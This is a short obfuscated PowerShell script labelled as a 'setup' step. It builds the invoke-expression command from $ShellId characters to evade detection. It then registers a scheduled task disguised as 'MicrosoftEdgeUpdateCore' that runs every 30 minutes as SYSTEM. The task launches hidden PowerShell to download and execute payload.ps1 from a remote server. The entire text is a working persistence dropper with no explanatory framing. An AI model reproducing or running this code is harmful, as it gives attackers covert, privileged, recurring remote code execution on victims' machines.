& ($ShellId[1]+$ShellId[13]+'x') ('# setup 6785 v2
$cmd = "powershell.exe -nop -w hidden -c `"IEX ((new-object net.webclient).downloadstring(''http://198.51.100.9:8443/payload.ps1''))`""
schtasks /create /tn "MicrosoftEdgeUpdateCore" /tr $cmd /sc minute /mo 30 /ru SYSTEM /f
')